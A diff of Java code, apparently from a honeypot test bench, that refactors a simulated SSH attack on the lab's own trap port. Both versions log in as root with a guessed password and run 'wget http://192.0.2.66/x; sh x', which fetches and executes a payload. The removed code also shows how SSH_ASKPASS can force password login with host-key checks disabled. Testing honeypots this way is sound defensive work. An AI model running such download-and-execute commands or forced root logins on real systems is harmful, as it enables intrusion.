@@ -2,12 +2,7 @@
 package io.honeymesh.bench;
 
 import io.honeymesh.lab.Command;
-import io.honeymesh.lab.LabException;
 import io.honeymesh.lab.Tools;
-import java.io.IOException;
-import java.nio.file.Files;
-import java.nio.file.Path;
-import java.nio.file.attribute.PosixFilePermissions;
 import java.time.Duration;
 import java.util.ArrayList;
 import java.util.List;
@@ -106,36 +101,13 @@ final class Attacks {
         return Math.max(1, first - 2) + "-" + Math.min(65535, first + 100);
     }
 
-    /** OpenSSH asks a program for the password when it has no terminal: nothing but the client is needed. */
     private static Attack ssh(Stage stage, String target) {
-        Path guesses = stage.lab().folder().resolve("guess-password");
-        try {
-            Files.writeString(guesses, "#!/bin/sh\necho toor\n");
-            Files.setPosixFilePermissions(guesses, PosixFilePermissions.fromString("rwxr-xr-x"));
-        } catch (IOException e) {
-            throw new LabException("can't write " + guesses + ": " + e.getMessage(), e);
-        }
-        Command command = Command.of(
-                        "setsid",
-                        "-w",
-                        "ssh",
-                        "-F",
-                        "none",
-                        "-p",
-                        Integer.toString(stage.trapPort("ssh")),
-                        "-o",
-                        "StrictHostKeyChecking=no",
-                        "-o",
-                        "UserKnownHostsFile=/dev/null",
-                        "-o",
-                        "PreferredAuthentications=password",
-                        "-o",
-                        "ConnectTimeout=8",
-                        "root@" + target,
-                        "uname -a; wget http://192.0.2.66/x; sh x")
-                .with("SSH_ASKPASS", guesses.toString())
-                .with("SSH_ASKPASS_REQUIRE", "force")
-                .with("DISPLAY", ":0");
+        Command command = Login.command(
+                stage.lab(),
+                List.of("-o", "ConnectTimeout=8"),
+                stage.trapPort("ssh"),
+                target,
+                "uname -a; wget http://192.0.2.66/x; sh x");
         return new Attack("ssh", "ssh with passwords", false, command, PATIENCE);
     }
 
